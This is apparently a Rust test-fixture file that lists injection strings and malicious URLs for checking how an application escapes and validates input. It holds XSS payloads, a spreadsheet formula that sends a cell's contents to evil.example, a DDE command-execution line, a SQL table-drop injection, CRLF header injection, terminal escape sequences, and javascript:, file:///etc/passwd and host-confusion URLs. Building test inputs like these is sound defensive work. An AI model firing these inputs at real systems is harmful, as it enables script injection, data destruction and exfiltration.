//! Texts that are known to break programs which put one text into another.

/// Texts that do harm if a page, a spreadsheet, a log, a terminal, a header or a query takes them for
/// more than text. None has inline markup, so that each may stand in any text of a guide.
pub const TEXTS: [&str; 30] = [
    // Elements and scripts.
    "<script>window.harmed=1</script>",
    "</script><script>window.harmed=1</script>",
    "<img src=/harm onerror=window.harmed=1>",
    "<svg/onload=window.harmed=1>",
    "</title><style>@import '/harm'</style>",
    "</textarea></form><form action=/harm>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'>",
    "<base href=/harm/><link rel=stylesheet href=/harm>",
    "<!--",
    "--><plaintext>",
    "<!doctype html><plaintext>",
    // Out of an attribute.
    "\" onfocus=window.harmed=1 autofocus x=\"",
    "' onmouseover='window.harmed=1",
    "`onmouseover=window.harmed=1",
    "x\" src=\"/harm",
    // Characters by name or number, once and twice.
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "&#60;img src=/harm&#62;",
    "&amp;lt;b&amp;gt;",
    "&colon;&Tab;&NewLine;",
    // Templates and expressions.
    "{{constructor.constructor('window.harmed=1')()}}",
    "${window.harmed=1}",
    "<%= harm %>",
    // Spreadsheets.
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1);=1+1\t=2",
    // SQL.
    "'); DROP TABLE consultation; --",
    // A line of a header or of a log, and what a terminal obeys.
    "a\r\nSet-Cookie: harm=1\r\n\r\n<script>window.harmed=1</script>",
    "a\n2026-11-24T00:00:00Z  INFO request{id=00000000}: method=POST",
    "\u{1b}]0;harm\u{7}\u{9b}31m\u{1b}c",
    // Words that run the other way, and a zero-width character.
    "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
];

/// Addresses that no request or link may lead to, and some that pretend to lead elsewhere.
pub const ADDRESSES: [&str; 30] = [
    "javascript:window.harmed=1",
    "JaVaScRiPt:window.harmed=1",
    "java\nscript:window.harmed=1",
    "java\tscript:window.harmed=1",
    "\u{1}javascript:window.harmed=1",
    "javascript://clinic.example/%0Awindow.harmed=1",
    "javascript&colon;window.harmed=1",
    "vbscript:x",
    "data:text/html,<script>parent.harmed=1</script>",
    "blob:https://clinic.example/0",
    "filesystem:https://clinic.example/x",
    "file:///etc/passwd",
    "ftp://clinic.example/",
    "ws://clinic.example/",
    "about:blank",
    "//evil.example/api",
    "/\\evil.example/api",
    "\\\\evil.example\\api",
    "/\t/evil.example/api",
    "http:/evil.example/api",
    "https:evil.example/api",
    "http://evil.example/api",
    "http://clinic.example.evil.example/api",
    "http://clinic.example@evil.example/api",
    "http://127.0.0.1.evil.example/api",
    "http://localhost:8080@evil.example/api",
    "https://ana:secret@clinic.example/api",
    "https://ana@clinic.example/api",
    "http://[::1]@evil.example/api",
    "https://",
];
